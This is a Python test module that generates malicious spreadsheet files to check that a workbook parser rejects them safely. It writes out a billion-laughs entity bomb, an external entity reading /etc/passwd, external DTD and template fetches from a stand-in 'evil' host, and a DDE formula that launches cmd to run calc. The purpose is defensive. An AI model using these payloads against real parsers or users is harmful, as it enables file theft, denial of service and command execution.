"""XML as a weapon: entities, depth, relations that lead nowhere, to themselves or out of the house."""

from collections.abc import Iterator

from tests.hostile.hostile import ANYTHING, LOADS, Hostile, changed, hostile, inserted, parts_of

OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
LAUGHS = b"<!DOCTYPE x [<!ENTITY a0 'ha'>%s]>" % b"".join(
    b"<!ENTITY a%d '%s'>" % (number, b"&a%d;" % (number - 1) * 10) for number in range(1, 10)
)
FROM_OUTSIDE = b'<!DOCTYPE x [<!ENTITY a9 SYSTEM "file:///etc/passwd">]>'
OF_OUTSIDE = b'<!DOCTYPE x SYSTEM "http://127.0.0.1:9/evil.dtd">'
PARTS = ("xl/worksheets/sheet3.xml", "xl/workbook.xml", "_rels/.rels", "xl/_rels/workbook.xml.rels")
ESSENTIAL = ("xl/workbook.xml", "xl/_rels/workbook.xml.rels", "xl/worksheets/sheet3.xml", "[Content_Types].xml")


def markup(good: bytes, good_ods: bytes) -> Iterator[Hostile]:
    """`good`: a filled workbook, .xlsx, and the same as .ods."""
    for number, part in enumerate(PARTS):
        yield hostile(f"cuoi-{number}.xlsx", changed(good, {part: _with(LAUGHS)}), "damaged_file")
        yield hostile(f"tu-ngoai-{number}.xlsx", changed(good, {part: _with(FROM_OUTSIDE)}), "damaged_file")
    for part in ("xl/sharedStrings.xml", "xl/styles.xml"):
        name = part.removeprefix("xl/")
        yield hostile(f"cuoi-{name}.xlsx", changed(good, {part: _with(LAUGHS)}), "damaged_file", LOADS)
        entity = inserted(b"</t>", b"&a9;") if "shared" in part else _with(b"")
        yield hostile(
            f"thuc-the-{name}.xlsx",
            changed(changed(good, {part: entity}), {part: _with(FROM_OUTSIDE)}),
            "damaged_file", "meta_disagrees", "not_the_form", "missing_sheet", "unknown_programme", LOADS,
        )  # fmt: skip
    yield hostile("cuoi.ods", changed(good_ods, {"content.xml": _with(LAUGHS)}), "damaged_file")
    yield hostile("dtd-ngoai.ods", changed(good_ods, {"content.xml": _with(OF_OUTSIDE)}), "damaged_file")
    deep = b"<x>" * 400_000 + b"</x>" * 400_000
    yield hostile("sau.xlsx", changed(good, {PARTS[0]: inserted(b"</sheetData>", deep)}), "damaged_file")
    yield hostile("sau-workbook.xlsx", changed(good, {PARTS[1]: inserted(b"</workbook>", deep)}), "damaged_file")
    yield hostile(
        "sau-chu.xlsx", changed(good, {"xl/sharedStrings.xml": inserted(b"</sst>", deep)}), "damaged_file", LOADS
    )
    yield hostile("sau.ods", changed(good_ods, {"content.xml": inserted(b"</table:table>", deep)}), "damaged_file")
    for part in ESSENTIAL:
        expected = "not_a_workbook" if part in ("[Content_Types].xml", "xl/workbook.xml") else "damaged_file"
        yield hostile(f"thieu-{part.replace('/', '_')}.xlsx", changed(good, {part: None}), expected)
    yield hostile("thieu-chu.xlsx", changed(good, {"xl/sharedStrings.xml": None}), ANYTHING)
    yield hostile("quan-he-vong.xlsx", changed(good, {PARTS[3]: _circular}), "unknown_programme")
    yield hostile("quan-he-ra-ngoai.xlsx", changed(good, {PARTS[3]: _outside}), "damaged_file")
    yield hostile("lien-ket-ngoai.xlsx", _with_external_link(good), LOADS)
    yield hostile("mau-tu-xa.xlsx", changed(good, {"xl/_rels/styles.xml.rels": _remote()}), LOADS)


def _with(doctype: bytes) -> "_Doctype":
    return _Doctype(doctype)


class _Doctype:
    """A document type before the first element."""

    def __init__(self, doctype: bytes) -> None:
        self.doctype = doctype

    def __call__(self, part: bytes) -> bytes:
        declared, mark, rest = part.partition(b"?>")
        return declared + mark + self.doctype + rest if mark else self.doctype + part


def _circular(part: bytes) -> bytes:
    """Every sheet is the workbook itself."""
    return part.replace(b'Target="worksheets/', b'Target="workbook.xml" Was="')


def _outside(part: bytes) -> bytes:
    return part.replace(b'Target="worksheets/', b'TargetMode="External" Target="http://127.0.0.1:9/worksheets/')


def _remote() -> bytes:
    return (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="r1" Type="%s/attachedTemplate" Target="http://127.0.0.1:9/evil.xltm" '
        b'TargetMode="External"/></Relationships>' % OFFICE.encode()
    )


def _with_external_link(good: bytes) -> bytes:
    """A cell whose value was taken from another workbook, and a DDE link that would start a program."""
    sheet = "xl/worksheets/sheet3.xml"
    link = b'<externalLink xmlns="x"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
    target = parts_of(good)[sheet]
    row = target.count(b"<row ") + 20
    cell = (
        b'<row r="%d"><c r="H%d"><f>[1]Sheet1!A1</f><v>7</v></c><c r="I%d"><f>cmd|\'/c calc\'!A0</f><v>0</v></c></row>'
    )
    return changed(
        good,
        {
            sheet: inserted(b"</sheetData>", cell % (row, row, row)),
            "xl/externalLinks/externalLink1.xml": link,
            "xl/externalLinks/_rels/externalLink1.xml.rels": _remote(),
        },
    )
